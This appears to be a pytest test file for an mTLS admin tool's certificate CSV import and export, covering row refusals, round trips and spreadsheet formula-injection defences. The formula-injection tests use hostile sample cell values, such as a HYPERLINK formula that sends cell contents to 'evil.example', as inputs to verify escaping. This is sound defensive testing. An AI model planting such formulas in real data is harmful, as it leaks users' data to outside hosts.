"""admin/cli.py: ``mtls-admin cert import|export --csv FILE``: import is all or nothing and reports
every refused row; export -> import into an empty store with the same users gives the same
certificates back."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from mtls_middleware import Reason
from mtls_middleware.admin.cli import main
from mtls_middleware.certs import fingerprint, parse_chain
from tests.admin.conftest import CLI, run_program


def write_csv(
    path: Path, rows: list[dict[str, str]], columns: tuple[str, ...] = ("user_id", "label", "pem")
) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=columns)
        writer.writeheader()
        writer.writerows(rows)
    return path


def row(pems: dict[str, bytes], name: str, user: str = "carol", label: str = "") -> dict[str, str]:
    return {"user_id": user, "label": label, "pem": pems[name].decode()}


@pytest.fixture
def users(cli: CLI) -> CLI:
    cli("user", "add", "carol", "--org", "acme")
    cli("user", "add", "dave", "--org", "beta")
    return cli


def fingerprints(cli: CLI) -> set[str]:
    return {c["fingerprint"] for c in cli("cert", "list", "--json").json()}


# -- import -----------------------------------------------------------------------------------


def test_import(users: CLI, pems: dict[str, bytes], tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "in.csv",
        [
            row(pems, "carol", label="laptop"),
            row(pems, "crlf"),
            row(pems, "dave", user="dave", label="phone"),
        ],
    )
    ran = users("cert", "import", "--csv", str(path))
    assert ran.status == 0, ran.err
    assert ran.out.strip() == f"imported 3 certificates from {path}"
    listed = {c["label"]: c for c in users("cert", "list", "--json").json()}
    assert listed["laptop"]["user_id"] == "carol"
    assert listed["phone"]["org"] == "beta"
    assert any(label.startswith("CN=carol 2") for label in listed)  # empty label: the subject
    crlf = next(c for c in listed.values() if c["subject"].startswith("CN=carol 2"))
    assert users("cert", "download", crlf["fingerprint"], "--json").json()["pem"] == pems["crlf"].decode()


def test_import_json(users: CLI, pems: dict[str, bytes], tmp_path: Path) -> None:
    path = write_csv(tmp_path / "in.csv", [row(pems, "carol"), row(pems, "dave", user="dave")])
    result = users("cert", "import", "--csv", str(path), "--json").json()
    assert result["imported"] == 2
    assert set(result["fingerprints"]) == fingerprints(users)


def test_import_pem_file_relative_to_the_csv(users: CLI, pems: dict[str, bytes], tmp_path: Path) -> None:
    folder = tmp_path / "batch"
    (folder / "certs").mkdir(parents=True)
    (folder / "certs" / "carol.pem").write_bytes(pems["carol"])
    path = write_csv(
        folder / "in.csv",
        [{"user_id": "carol", "label": "from file", "pem_file": "certs/carol.pem"}],
        columns=("user_id", "label", "pem_file"),
    )
    ran = users("cert", "import", "--csv", str(path))
    assert ran.status == 0, ran.err
    assert [c["label"] for c in users("cert", "list", "--json").json()] == ["from file"]


ROW_REFUSALS = [
    pytest.param("expired", "carol", Reason.CERTIFICATE_EXPIRED, id="expired"),
    pytest.param("garbage", "carol", Reason.MALFORMED_CERTIFICATE, id="garbage"),
    pytest.param("empty", "carol", Reason.MALFORMED_CERTIFICATE, id="empty-pem"),
    pytest.param("with-key", "carol", Reason.MALFORMED_CERTIFICATE, id="private-key"),
    pytest.param("server-only", "carol", Reason.MISSING_CLIENT_AUTH_EKU, id="server-auth-only"),
    pytest.param("dual", "carol", Reason.DUAL_PURPOSE_EKU, id="dual-purpose"),
    pytest.param("eleven", "carol", Reason.CHAIN_TOO_LONG, id="eleven-certificates"),
    pytest.param("carol", "carol", Reason.DUPLICATE_CERTIFICATE, id="duplicate-of-row-2"),
    pytest.param("erin", "carol", Reason.DUPLICATE_CERTIFICATE, id="duplicate-of-stored"),
    pytest.param("dave", "nobody", Reason.UNKNOWN_USER, id="unknown-user"),
    pytest.param("dave", "", Reason.UNKNOWN_USER, id="empty-user"),
]


@pytest.mark.parametrize(("pem", "user", "reason"), ROW_REFUSALS)
def test_one_bad_row_imports_nothing(
    users: CLI,
    pems: dict[str, bytes],
    pem_files: dict[str, Path],
    tmp_path: Path,
    pem: str,
    user: str,
    reason: Reason,
) -> None:
    assert users("cert", "upload", str(pem_files["erin"]), "--user", "dave").status == 0
    path = write_csv(
        tmp_path / "in.csv",
        [row(pems, "carol"), row(pems, pem, user=user), row(pems, "crlf", user="dave")],
    )
    ran = users("cert", "import", "--csv", str(path))
    assert ran.status == 1
    assert ran.err.startswith("refused: ")
    assert "nothing was imported" in ran.err
    report = [line.strip() for line in ran.err.splitlines()[1:]]
    assert len(report) == 1
    assert report[0].startswith("row 3")  # the header is row 1
    assert f": {reason.value}: " in report[0]
    assert len(users("cert", "list", "--json").json()) == 1  # only erin, uploaded before

    result = users("cert", "import", "--csv", str(path), "--json")
    assert result.status == 1
    body = result.json()
    assert [(r["row"], r["error"]) for r in body["refused"]] == [(3, reason.value)]
    assert body["refused"][0]["message"]


def test_every_refused_row_is_reported(users: CLI, pems: dict[str, bytes], tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "in.csv",
        [
            row(pems, "expired"),
            row(pems, "carol"),
            row(pems, "dave", user="nobody"),
            row(pems, "dual"),
            row(pems, "crlf"),
        ],
    )
    body = users("cert", "import", "--csv", str(path), "--json").json()
    assert [(r["row"], r["error"], r["user_id"]) for r in body["refused"]] == [
        (2, Reason.CERTIFICATE_EXPIRED.value, "carol"),
        (4, Reason.UNKNOWN_USER.value, "nobody"),
        (5, Reason.DUAL_PURPOSE_EKU.value, "carol"),
    ]
    assert fingerprints(users) == set()


@pytest.mark.parametrize(
    ("user", "label", "reason", "shown"),
    [
        pytest.param(b"carol", b"\xff laptop", Reason.CONFIGURATION_ERROR, "carol", id="label"),
        # Shown escaped: the report never writes raw undecodable bytes to the terminal.
        pytest.param(b"car\xffol", b"laptop", Reason.UNKNOWN_USER, "car\\xdcffol", id="user-id"),
    ],
)
def test_a_row_that_is_not_utf8_imports_nothing(
    users: CLI,
    pems: dict[str, bytes],
    tmp_path: Path,
    user: bytes,
    label: bytes,
    reason: Reason,
    shown: str,
) -> None:
    # The PEM field may hold any bytes (kept as they are); the text fields must be UTF-8.
    path = tmp_path / "in.csv"
    path.write_bytes(
        b"user_id,label,pem\n"
        + b'carol,ok,"' + pems["carol"] + b'"\n'
        + user + b"," + label + b',"' + pems["dave"] + b'"\n'
    )
    body = users("cert", "import", "--csv", str(path), "--json").json()
    assert [(r["row"], r["error"]) for r in body["refused"]] == [(3, reason.value)]
    assert fingerprints(users) == set()
    ran = users("cert", "import", "--csv", str(path))
    assert ran.status == 1
    assert f"row 3 (user {shown}): {reason.value}: " in ran.err


def test_header_only_imports_nothing(users: CLI, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "in.csv", [])
    ran = users("cert", "import", "--csv", str(path), "--json")
    assert ran.status == 0
    assert ran.json()["imported"] == 0


MALFORMED = [
    pytest.param(b"", id="empty-file"),
    pytest.param(b"user_id,label\ncarol,x\n", id="no-pem-column"),
    pytest.param(b"label,pem\nx,y\n", id="no-user-column"),
    pytest.param(b"user,label,certificate\ncarol,x,y\n", id="wrong-names"),
    pytest.param(b'user_id,label,pem\ncarol,x,"PEM",extra\n', id="more-fields-than-header"),
    pytest.param(b"user_id,label,pem,pem_file\ncarol,x,PEM,carol.pem\n", id="pem-and-pem-file"),
    pytest.param(b"user_id,label,pem_file\ncarol,x,no-such.pem\n", id="unreadable-pem-file"),
    pytest.param(b'user_id,label,pem\ncarol,x,"unterminated\n', id="unterminated-quote"),
]


@pytest.mark.parametrize("content", MALFORMED)
def test_malformed_csv_is_a_usage_error(users: CLI, tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes(content)
    ran = users("cert", "import", "--csv", str(path))
    assert ran.status == 2
    assert ran.err.startswith("mtls-admin: error: ")
    assert fingerprints(users) == set()


def test_unreadable_csv_is_a_usage_error(users: CLI, tmp_path: Path) -> None:
    assert users("cert", "import", "--csv", str(tmp_path / "missing.csv")).status == 2
    assert users("cert", "export", "--csv", str(tmp_path / "no" / "such" / "dir.csv")).status == 2


# -- export and the round trip ----------------------------------------------------------------


def test_export_columns(users: CLI, pem_files: dict[str, Path], tmp_path: Path) -> None:
    fp = users("cert", "upload", str(pem_files["dave"]), "--user", "dave", "--label", "phone").out.strip()
    path = tmp_path / "out.csv"
    ran = users("cert", "export", "--csv", str(path))
    assert ran.status == 0
    assert ran.out.strip() == f"exported 1 certificate to {path}"
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["user_id", "label", "pem", "org", "fingerprint", "uploaded_at", "not_after"]
    assert rows[0]["user_id"] == "dave"
    assert rows[0]["label"] == "phone"
    assert rows[0]["org"] == "beta"
    assert rows[0]["fingerprint"] == fp
    assert rows[0]["pem"] == pem_files["dave"].read_text()
    assert rows[0]["uploaded_at"].endswith("Z")


def test_round_trip(
    users: CLI,
    pem_files: dict[str, Path],
    pems: dict[str, bytes],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    for name, user, label in (
        ("carol", "carol", "laptop, old"),
        ("crlf", "carol", 'the "good" one'),
        ("dave", "dave", ""),
    ):
        assert (
            users(
                "cert", "upload", str(pem_files[name]), "--user", user, *(["--label", label] if label else [])
            ).status
            == 0
        )
    before = users("cert", "list", "--json").json()
    path = tmp_path / "out.csv"
    assert users("cert", "export", "--csv", str(path), "--json").json() == {"exported": 3, "file": str(path)}

    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"
    assert main(["--db", fresh, "user", "add", "carol", "--org", "acme"]) == 0
    assert main(["--db", fresh, "user", "add", "dave", "--org", "beta"]) == 0
    assert main(["--db", fresh, "cert", "import", "--csv", str(path)]) == 0
    capsys.readouterr()
    assert main(["--db", fresh, "cert", "list", "--json"]) == 0
    after = json.loads(capsys.readouterr().out)

    def kept(certs: list[dict[str, object]]) -> dict[object, tuple[object, ...]]:
        keys = ("user_id", "org", "label", "subject", "issuer", "serial", "not_before", "not_after")
        return {c["fingerprint"]: tuple(c[k] for k in keys) for c in certs}

    assert kept(after) == kept(before)
    for name in ("carol", "crlf", "dave"):
        fp = fingerprint(parse_chain([pems[name]]).leaf)
        assert main(["--db", fresh, "cert", "download", fp, "--json"]) == 0
        assert json.loads(capsys.readouterr().out)["pem"].encode() == pems[name]


def test_round_trip_through_the_installed_program(tmp_path: Path, db: str, pems: dict[str, bytes]) -> None:
    assert run_program("user", "add", "carol", db=db).returncode == 0
    assert run_program("cert", "upload", "-", "--user", "carol", db=db, stdin=pems["crlf"]).returncode == 0
    exported = run_program("cert", "export", "--csv", "-", db=db)
    assert exported.returncode == 0
    assert exported.stderr.startswith(b"exported 1 certificate")
    assert (
        next(csv.DictReader(io.StringIO(exported.stdout.decode(), newline="")))["pem"].encode()
        == pems["crlf"]
    )

    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"
    assert run_program("user", "add", "carol", db=fresh).returncode == 0
    imported = run_program("cert", "import", "--csv", "-", db=fresh, stdin=exported.stdout)
    assert imported.returncode == 0, imported.stderr
    fp = json.loads(run_program("cert", "list", "--json", db=fresh).stdout)[0]["fingerprint"]
    assert run_program("cert", "download", fp, db=fresh).stdout == pems["crlf"]

    again = run_program("cert", "import", "--csv", "-", "--json", db=fresh, stdin=exported.stdout)
    assert again.returncode == 1
    assert json.loads(again.stdout)["refused"][0]["error"] == Reason.DUPLICATE_CERTIFICATE.value


# -- formula injection: a spreadsheet must not run what a user id, label or PEM holds -----------

FORMULA_CASES = [
    # (user id, organisation, label, how each looks in the export)
    pytest.param('=HYPERLINK("https://evil.example/?"&C2,"open")', "+acme", "@SUM(A1)",
                 ('\'=HYPERLINK("https://evil.example/?"&C2,"open")', "'+acme", "'@SUM(A1)"), id="equals-plus-at"),
    pytest.param("@evil", "=org", "-1+1", ("'@evil", "'=org", "'-1+1"), id="at-equals-minus"),
    pytest.param("'=quoted", "acme", "''+twice", ("''=quoted", "acme", "'''+twice"), id="apostrophes-kept"),
    pytest.param("plain", "'ok", "'not a formula", ("plain", "'ok", "'not a formula"), id="nothing-to-do"),
]


@pytest.mark.parametrize(("user", "org", "label", "cells"), FORMULA_CASES)
def test_export_neutralises_formulas_and_import_gives_the_values_back(
    cli: CLI, pem_files: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str],
    user: str, org: str, label: str, cells: tuple[str, str, str],
) -> None:
    assert cli("user", "add", "--org", org, "--", user).status == 0
    assert cli("cert", "upload", str(pem_files["carol"]), "--user", user, f"--label={label}").status == 0
    path = tmp_path / "out.csv"
    assert cli("cert", "export", "--csv", str(path)).status == 0
    with path.open(newline="", encoding="utf-8") as handle:
        (exported,) = list(csv.DictReader(handle))
    assert (exported["user_id"], exported["org"], exported["label"]) == cells
    assert exported["pem"] == pem_files["carol"].read_text()  # a PEM's -----BEGIN line is left alone

    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"
    assert main(["--db", fresh, "user", "add", "--org", org, "--", user]) == 0
    assert main(["--db", fresh, "cert", "import", "--csv", str(path)]) == 0
    capsys.readouterr()
    assert main(["--db", fresh, "cert", "list", "--json"]) == 0
    (imported,) = json.loads(capsys.readouterr().out)
    assert (imported["user_id"], imported["label"]) == (user, label)


def test_a_pem_with_a_formula_in_front_is_neutralised_and_imported_exactly(
    cli: CLI, pems: dict[str, bytes], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    planted = b'=HYPERLINK("https://evil.example/","x")\n' + pems["carol"]
    source = tmp_path / "planted.pem"
    source.write_bytes(planted)
    cli("user", "add", "carol")
    assert cli("cert", "upload", str(source), "--user", "carol").status == 0
    path = tmp_path / "out.csv"
    assert cli("cert", "export", "--csv", str(path)).status == 0
    with path.open(newline="", encoding="utf-8") as handle:
        (exported,) = list(csv.DictReader(handle))
    assert exported["pem"] == "'" + planted.decode()

    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"
    assert main(["--db", fresh, "user", "add", "carol"]) == 0
    assert main(["--db", fresh, "cert", "import", "--csv", str(path)]) == 0
    fp = fingerprint(parse_chain([pems["carol"]]).leaf)
    capsys.readouterr()
    assert main(["--db", fresh, "cert", "download", fp, "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["pem"].encode() == planted


@pytest.mark.parametrize(
    ("cell", "label"),
    [
        pytest.param("'=1+1", "=1+1", id="one-apostrophe-off"),
        pytest.param("'-x", "-x", id="before-minus"),
        pytest.param("'@x", "@x", id="before-at"),
        pytest.param("''=x", "'=x", id="only-one-off"),
        pytest.param("'plain", "'plain", id="not-before-a-formula-kept"),
        pytest.param("it's", "it's", id="inside-kept"),
    ],
)
def test_import_takes_off_exactly_the_apostrophe_export_adds(
    users: CLI, pems: dict[str, bytes], tmp_path: Path, cell: str, label: str
) -> None:
    path = write_csv(tmp_path / "in.csv", [row(pems, "carol", label=cell)])
    assert users("cert", "import", "--csv", str(path)).status == 0
    (imported,) = users("cert", "list", "--json").json()
    assert imported["label"] == label
